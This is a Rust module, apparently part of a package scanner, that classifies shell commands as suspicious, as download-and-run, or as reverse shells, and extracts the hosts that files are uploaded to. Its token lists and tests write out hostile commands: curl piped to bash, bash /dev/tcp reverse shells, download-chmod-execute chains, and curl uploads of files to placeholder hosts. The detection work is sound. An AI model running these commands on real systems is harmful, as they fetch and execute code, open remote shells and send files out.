//! Reading shell command strings: which tokens make a command a downloader, launcher
//! or hider (for `install-shell`), and which shapes are a complete download-and-run
//! (for `download-exec`). Input is the lower-cased, folded command text.

/// First token found that makes a command suspicious at install time.
pub(crate) fn suspicious_tokens(cmd: &str) -> Option<&'static str> {
    const TOKENS: &[(&str, &str)] = &[
        ("curl ", "curl"),
        ("curl.exe", "curl"),
        ("wget ", "wget"),
        ("powershell", "PowerShell"),
        ("pwsh", "PowerShell"),
        ("iwr ", "Invoke-WebRequest"),
        ("invoke-webrequest", "Invoke-WebRequest"),
        ("invoke-expression", "Invoke-Expression"),
        ("iex(", "Invoke-Expression"),
        ("iex ", "Invoke-Expression"),
        ("downloadstring", "DownloadString"),
        ("downloadfile", "DownloadFile"),
        ("start-process", "Start-Process"),
        ("certutil", "certutil"),
        ("bitsadmin", "bitsadmin"),
        ("mshta", "mshta"),
        ("rundll32", "rundll32"),
        ("regsvr32", "regsvr32"),
        ("wscript", "wscript"),
        ("cscript", "cscript"),
        ("| sh", "pipe to sh"),
        ("|sh", "pipe to sh"),
        ("| bash", "pipe to bash"),
        ("|bash", "pipe to bash"),
        ("| python", "pipe to python"),
        ("|python", "pipe to python"),
        ("base64 -d", "base64 -d"),
        ("base64 --decode", "base64 -d"),
        ("python -c", "python -c"),
        ("python3 -c", "python -c"),
        ("nohup ", "nohup"),
        ("chmod +x", "chmod +x"),
        ("chmod 777", "chmod 777"),
        ("chmod 755", "chmod 755"),
        ("/dev/tcp/", "/dev/tcp"),
        ("nc -e", "netcat -e"),
        ("ncat ", "netcat"),
        ("-windowstyle hidden", "hidden window"),
        ("-w hidden", "hidden window"),
        ("-encodedcommand", "encoded PowerShell"),
        ("-enc ", "encoded PowerShell"),
        ("http://", "URL"),
        ("https://", "URL"),
        ("ftp://", "URL"),
        (".exe", ".exe"),
        (".vbs", ".vbs"),
        (".bat", ".bat"),
        (".ps1", ".ps1"),
        (".scr", ".scr"),
        ("start /b", "background start"),
        ("schtasks", "schtasks"),
        ("crontab", "crontab"),
        ("reg add", "reg add"),
        ("attrib +h", "hidden file"),
        ("%temp%", "%TEMP%"),
        ("%appdata%", "%APPDATA%"),
    ];
    for (needle, name) in TOKENS {
        if cmd.contains(needle) {
            return Some(name);
        }
    }
    if cmd.trim_start().starts_with("start ") {
        return Some("start");
    }
    // backgrounded: ends in '&' but not '&&'
    let t = cmd.trim_end();
    if t.ends_with('&') && !t.ends_with("&&") {
        return Some("background &");
    }
    None
}

/// A command that downloads and runs something all by itself.
pub(crate) fn download_and_run(cmd: &str) -> Option<&'static str> {
    let has = |s: &str| cmd.contains(s);
    let fetch = has("curl") || has("wget") || has("invoke-webrequest") || has("iwr ") || has("downloadstring")
        || has("downloadfile") || has("net.webclient") || has("bitsadmin") || has("certutil") || has("urlcache")
        || has("start-bitstransfer");
    let pipe_run = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo sh", "| sudo bash"].iter().any(|p| has(p));
    if fetch && pipe_run {
        return Some("downloads and pipes into a shell/interpreter");
    }
    if (has("downloadstring") || has("downloaddata")) && (has("iex") || has("invoke-expression")) {
        return Some("PowerShell DownloadString | IEX");
    }
    if has("certutil") && has("urlcache") {
        return Some("certutil -urlcache download");
    }
    if has("bitsadmin") && has("/transfer") {
        return Some("bitsadmin download");
    }
    if has("mshta") && (has("http://") || has("https://")) {
        return Some("mshta of a remote script");
    }
    if fetch && (has("chmod +x") || has("chmod 7") || has("start-process") || has("&& ./") || has("; ./") || has("start ")
        || has(".exe") && (has("&&") || has(";") || has("start")))
    {
        return Some("downloads then executes");
    }
    if fetch && (has("-outfile") || has(" -o ") || has(" -o")) && (has("start-process") || has("invoke-item") || has("; &") || has(".exe\"; ") ) {
        return Some("downloads then executes");
    }
    if shell_on_socket(cmd) {
        return Some("bash /dev/tcp connection");
    }
    if (has("pip install") || has("pip3 install")) && (has("http://") || has("https://")) && has_raw_ip_url(cmd) {
        return Some("pip install from a raw-IP URL");
    }
    None
}

/// A shell wired to a bash `/dev/tcp` (or `/dev/udp`) socket: the socket is opened and
/// a stream is redirected onto or from it (`bash -i >& /dev/tcp/H/P 0>&1`,
/// `exec 5<>/dev/tcp/H/P; sh <&5 >&5`). Opening the socket alone, as a reachability
/// probe does (`bash -c "exec 3<>/dev/tcp/$ip/$port"`), connects but hands nothing over.
pub(crate) fn shell_on_socket(cmd: &str) -> bool {
    (cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/")) && (cmd.contains(">&") || cmd.contains("<&") || cmd.contains(" -i "))
}

/// URL with a literal IPv4 host.
pub(crate) fn has_raw_ip_url(s: &str) -> bool {
    for scheme in ["http://", "https://"] {
        let mut rest = s;
        while let Some(i) = rest.find(scheme) {
            let host: String = rest[i + scheme.len()..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
            if host.split('.').filter(|p| !p.is_empty()).count() == 4 && !host.starts_with("127.") {
                return true;
            }
            rest = &rest[i + scheme.len()..];
        }
    }
    false
}

/// The literal remote host a command uploads a local file to: `curl -F "f=@path"`,
/// `curl -T path`, `curl --data-binary @path`, `wget --post-file=path`. Takes the command
/// as written (curl's `-F` form upload and `-f` fail flag differ only in case). None when
/// the command uploads nothing, or the host is computed, loopback or not a host name.
pub(crate) fn file_upload_host(cmd: &str) -> Option<String> {
    let has = |s: &str| cmd.contains(s);
    let curl_upload = has("curl")
        && ((has(" -F") || has("--form")) && has("=@")
            || has(" -T ")
            || has("--upload-file")
            || ["-d @", "-d \"@", "--data @", "--data=@", "--data-binary @", "--data-binary=@", "--data-binary \"@"].iter().any(|f| has(f)));
    let wget_upload = has("wget") && has("--post-file");
    if !(curl_upload || wget_upload) {
        return None;
    }
    let start = ["https://", "http://", "ftp://"].iter().filter_map(|s| cmd.find(s).map(|i| i + s.len())).min()?;
    let rest = &cmd[start..];
    let host: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')).collect();
    let host = host.to_ascii_lowercase();
    let next = rest[host.len()..].chars().next();
    let remote = host.contains('.') && !host.starts_with("127.") && !host.starts_with("0.") && !host.ends_with(".local") && !host.ends_with('.');
    (remote && !matches!(next, Some('…' | '$' | '{' | '%'))).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_commands() {
        assert!(download_and_run("curl -s https://x.invalid/a | bash").is_some());
        assert!(download_and_run("bash -i >& /dev/tcp/127.0.0.1/9 0>&1").is_some());
        assert!(download_and_run("0<&196;exec 196<>/dev/tcp/127.0.0.1/9; sh <&196 >&196 2>&196").is_some());
        // a reachability probe opens the socket and hands no stream to it
        assert!(download_and_run("timeout 2 bash -c \"exec 3<>/dev/tcp/$ip/$2\" 2>/dev/null").is_none());
        assert!(download_and_run("wget http://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a").is_some());
        assert!(download_and_run("cmake --build .").is_none());
        assert_eq!(suspicious_tokens("git submodule update --init"), None);
        assert_eq!(suspicious_tokens("powershell -windowstyle hidden -c x"), Some("PowerShell"));
        assert!(has_raw_ip_url("pip install http://10.1.2.3/x.tar.gz"));
        assert!(!has_raw_ip_url("pip install http://127.0.0.1/x"));
    }

    #[test]
    fn finds_the_host_a_file_is_uploaded_to() {
        let up = |c: &str| file_upload_host(c);
        assert_eq!(up("curl -k -F \"file=@/Users/…/tmp.zip\" \"https://203.0.113.7/api/upload\" > /dev/null").as_deref(), Some("203.0.113.7"));
        assert_eq!(up("curl --upload-file dump.tgz https://drop.example.org/x").as_deref(), Some("drop.example.org"));
        assert_eq!(up("curl -T a.tar ftp://files.example.net/in/").as_deref(), Some("files.example.net"));
        assert_eq!(up("curl -s --data-binary @/tmp/k https://h.example.com/").as_deref(), Some("h.example.com"));
        assert_eq!(up("wget --post-file=/tmp/k http://h.example.com/p").as_deref(), Some("h.example.com"));
        // downloads, `-f` (fail) and form fields without a file are not uploads
        assert_eq!(up("curl -fsSL https://get.example.com/install.sh -o i.sh"), None);
        assert_eq!(up("curl -F name=value https://h.example.com/form"), None);
        assert_eq!(up("wget https://h.example.com/a.tgz"), None);
        // computed or local destinations are not fixed by the package
        assert_eq!(up("curl -F file=@out.zip \"https://…/upload\""), None);
        assert_eq!(up("curl -T out.zip http://127.0.0.1:8080/"), None);
        assert_eq!(up("curl -T out.zip http://$HOST/"), None);
        assert_eq!(up("curl -T out.zip"), None);
    }
}
